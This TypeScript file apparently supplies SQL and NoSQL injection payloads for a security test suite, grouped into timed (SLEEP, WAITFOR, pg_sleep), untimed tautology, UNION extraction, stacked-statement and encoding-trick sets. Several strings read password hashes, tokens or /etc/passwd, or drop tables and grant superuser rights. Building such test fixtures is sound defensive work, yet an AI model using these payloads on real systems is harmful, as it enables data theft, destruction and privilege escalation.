/** Payloads for a text or a number; an object goes as JSON, or in brackets where JSON is not accepted. */
export type Payload = string | object;

/** Percent-encoded bytes: in GBK and Big5 the quote or backslash is the second half of a character. */
export const BYTES = [
  '%bf%27%20OR%201=1--%20',
  '%bf%5c%27%20OR%201=1--%20',
  '%a1%5c%27%20OR%20%271',
  '%c0%a7%20OR%201=1#',
];

/** Text that is harmless on every engine: the baseline of an attack. */
export const HARMLESS = 'zzz-nobody-is-called-so';

const lines = (text: string) => text.trim().split('\n');

/** Payloads that wait, or work for seconds, when executed. */
export const TIMED: Payload[] = lines(String.raw`
1 AND SLEEP(5)
1' AND SLEEP(5)-- -
'; SELECT SLEEP(5)-- -
' OR SLEEP(5)='
1' AND (SELECT 1 FROM (SELECT SLEEP(5)) AS t)-- -
") OR SLEEP(5)-- -
1 AND BENCHMARK(200000000,MD5(1))
' OR BENCHMARK(200000000,SHA1('x'))-- -
' AND RANDOMBLOB(1000000000)-- -
' OR LIKE('x',UPPER(HEX(RANDOMBLOB(500000000))))-- -
' OR (WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n<99999999) SELECT COUNT(*) FROM r)-- -
'; WAITFOR DELAY '0:0:5'-- -
'||pg_sleep(5)-- -
`);

/** Payloads that answer at once when executed, with too many rows or by changing something. */
export const UNTIMED: Payload[] = [
  // Always true, in every kind of quote and bracket, and with comments for blanks.
  ...lines(String.raw`
' OR 1=1-- -
' OR '1'='1
' OR ''='
" OR 1=1-- -
" OR ""="
1 OR 1=1
998 OR 1=1
-1 OR 1=1#
') OR ('1'='1
')) OR 1=1-- -
%') OR 1=1-- -
'/**/OR/**/1=1#
'/*!50000OR*/1=1-- -
' OR 1=1;%00
' || '1'='1
' OR TRUE-- -
'='
'-'
'%2b'
admin'-- -
admin' #
admin'/*
998;--
1001 -- -
`),
  // The rows of other tables.
  ...lines(String.raw`
' UNION SELECT NULL-- -
' UNION ALL SELECT 1,2,3,4,5,6,7,8-- -
' UNION SELECT user_id,username,password_hash,1,1,1,1,1 FROM user-- -
1 UNION SELECT secret FROM customer
') UNION SELECT token_hash FROM session-- -
' UNION SELECT sql FROM sqlite_master-- -
' UNION SELECT table_name FROM information_schema.tables-- -
' AND (SELECT password_hash FROM user LIMIT 1) LIKE '$argon2%
' AND EXTRACTVALUE(1,CONCAT(0x7e,@@version))-- -
' AND UPDATEXML(1,CONCAT(0x7e,(SELECT secret FROM customer LIMIT 1)),1)-- -
' AND load_extension('x')-- -
' UNION SELECT LOAD_FILE('/etc/passwd')-- -
' INTO OUTFILE 'stolen.txt'-- -
(SELECT secret FROM customer WHERE customer_id=1001)
`),
  // A second statement.
  ...lines(String.raw`
'; DROP TABLE user_customer;-- -
1; DELETE FROM user_customer
'; UPDATE user SET is_super=1;-- -
"; DROP TABLE session;-- -
'; INSERT INTO user_customer VALUES (998,9,'','','','',1,0);-- -
'; ATTACH DATABASE 'stolen.txt' AS x;-- -
'; PRAGMA writable_schema=1;-- -
'; SET sql_mode='NO_BACKSLASH_ESCAPES';-- -
`),
  // Backslashes, other quotes and other spellings of characters.
  ...lines(String.raw`
\
\'
\' OR 1=1-- -
\\' OR 1=1-- -
' OR 1=1 ESCAPE '\
’ OR ’1’=’1
＇ OR 1=1-- -
ʼ OR 1=1-- -
縗' OR 1=1-- -
0x27204f5220313d31
CHAR(39)||' OR 1=1
x'27'
`),
  "\0' OR 1=1-- -",
  "'\0 OR 1=1-- -",
  "\x1a' OR 1=1-- -",
  "'\nOR\n1=1\n-- -",
  // Names of columns and tables.
  ...lines(String.raw`
user_id
secret
created DESC
1,(SELECT 1)
user.password_hash
user_id\` OR 1=1-- -
*
reference=reference OR reference
`).map((line) => line.replace('\\`', '`')),
  // Values that drivers and mappers take for more than a value.
  { $gt: '' },
  { $ne: null },
  { user_id: 1 },
  { '@instanceof': 'FindOperator', _type: 'raw', _value: '1=1', _getSql: '1=1' },
  { "x' OR 1=1-- -": 1 },
  ["' OR 1=1-- -"],
];
